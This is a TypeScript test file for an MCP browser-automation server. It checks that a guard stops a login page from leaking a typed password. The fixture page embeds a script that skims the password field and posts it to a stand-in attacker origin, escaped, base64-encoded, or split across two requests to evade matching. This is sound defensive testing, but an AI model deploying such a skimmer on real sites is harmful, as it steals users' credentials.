/**
 * An MCP client (the SDK's, over HTTP) types the password into a same-origin login form whose page then
 * sends it to another origin in spellings no matcher knows: `\u` escapes, base64 with an offset, and
 * split across two requests. Once `act` has typed a secret, the session's guard is strict — the page may
 * reach only the secret's origins — so none of them leaves; `strictAfterSecret: false` keeps the older,
 * lenient guard, under which they do.
 */
import { createServer, type Server } from "node:http"
import type { AddressInfo } from "node:net"
import { Client } from "@modelcontextprotocol/sdk/client/index.js"
import { StreamableHTTPClientTransport } from "@modelcontextprotocol/sdk/client/streamableHttp.js"
import { type AttackerOrigin, startAttackerOrigin } from "@sextant/fixture-site"
import { afterAll, beforeAll, expect, it } from "vitest"
import { type HttpMcpServer, type ServerOptionsInput, serveHttp } from "../src/index.ts"

const PASSWORD = "open sesame+42"

type Answer = { content: Array<{ type: string; text?: string }>; isError?: boolean }
const textOf = (answer: Answer): string => answer.content.map((block) => block.text ?? "").join("\n")

let attacker: AttackerOrigin
let site: Server
let siteUrl = ""
const servers: Array<HttpMcpServer> = []

beforeAll(async () => {
  attacker = await startAttackerOrigin()
  const page = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Sign in</title></head><body>
<h1>Sign in</h1>
<form method="post" action="/signed-in" aria-label="Sign in">
<label for="email">Email</label><input type="email" name="email" id="email">
<label for="password">Password</label><input type="password" name="password" id="password" autocomplete="current-password">
<button type="submit">Sign in</button></form>
<script>const A = ${JSON.stringify(attacker.url)}
let sent = false
setInterval(() => {
  const pw = document.getElementById('password').value
  if (sent || pw.length < ${PASSWORD.length}) return
  sent = true
  fetch(A + '/u', { method: 'POST', mode: 'no-cors', body: '{"p":"' + [...pw].map(c => '\\\\u' + c.charCodeAt(0).toString(16).padStart(4, '0')).join('') + '"}' })
  fetch(A + '/b64', { method: 'POST', mode: 'no-cors', body: btoa('x' + pw) })
  fetch(A + '/a', { method: 'POST', mode: 'no-cors', body: pw.slice(0, 7) })
  fetch(A + '/b', { method: 'POST', mode: 'no-cors', body: pw.slice(7) })
}, 50)
</script></body></html>`
  site = createServer((_, response) => {
    response.writeHead(200, { "content-type": "text/html; charset=utf-8", "cache-control": "no-store" })
    response.end(page)
  })
  await new Promise<void>((resolve) => site.listen(0, "127.0.0.1", () => resolve()))
  siteUrl = `http://127.0.0.1:${(site.address() as AddressInfo).port}`
}, 60_000)

afterAll(async () => {
  await Promise.all(servers.map((server) => server.close()))
  await attacker?.close()
  site?.closeAllConnections()
  await new Promise<void>((resolve) => (site ? site.close(() => resolve()) : resolve()))
})

/** Opens the login page through an MCP session with `options`, types the email and the password, waits. */
const signIn = async (options: ServerOptionsInput) => {
  const server = await serveHttp(
    {
      secrets: ["password"],
      secretValues: { password: PASSWORD },
      constraints: { allowedOrigins: [siteUrl] },
      ...options,
    },
    {},
  )
  servers.push(server)
  const client = new Client({ name: "sextant-test", version: "0.0.0" })
  await client.connect(
    new StreamableHTTPClientTransport(new URL(server.url), {
      requestInit: { headers: { Authorization: `Bearer ${server.token}` } },
    }),
  )
  const call = async (name: string, args: Record<string, unknown> = {}) =>
    (await client.callTool({ name, arguments: args })) as Answer
  const since = attacker.requests.length
  expect((await call("go", { url: `${siteUrl}/login` })).isError).toBeUndefined()
  const outline = textOf(await call("look", { mode: "interactive" })).split("\n")
  const refOf = (pattern: RegExp) => outline.find((line) => pattern.test(line))?.match(/^(e\d+) /)?.[1]
  const email = refOf(/^e\d+ textbox Email/)
  const password = refOf(/^e\d+ textbox Password/)
  expect((await call("act", { ref: email, op: "input", value: "a@example.com" })).isError).toBeUndefined()
  const typed = await call("act", { ref: password, op: "input", value: "<secret:password>" })
  expect(typed.isError).toBeUndefined()
  await new Promise((resolve) => setTimeout(resolve, 1_000))
  await client.close()
  return attacker.requests.slice(since).map((request) => `${request.method} ${request.url} ${request.body}`)
}

it("after act types a secret, encoded and split spellings of it do not leave the page", async () => {
  expect(await signIn({})).toEqual([])
}, 60_000)

it("with strictAfterSecret off, only requests carrying a known spelling are blocked: the encoded ones leave", async () => {
  const sent = await signIn({ strictAfterSecret: false })
  expect(sent).toEqual(
    expect.arrayContaining([
      expect.stringMatching(/^POST \/b64 /),
      expect.stringMatching(/^POST \/a /),
      expect.stringMatching(/^POST \/b /),
    ]),
  )
}, 60_000)
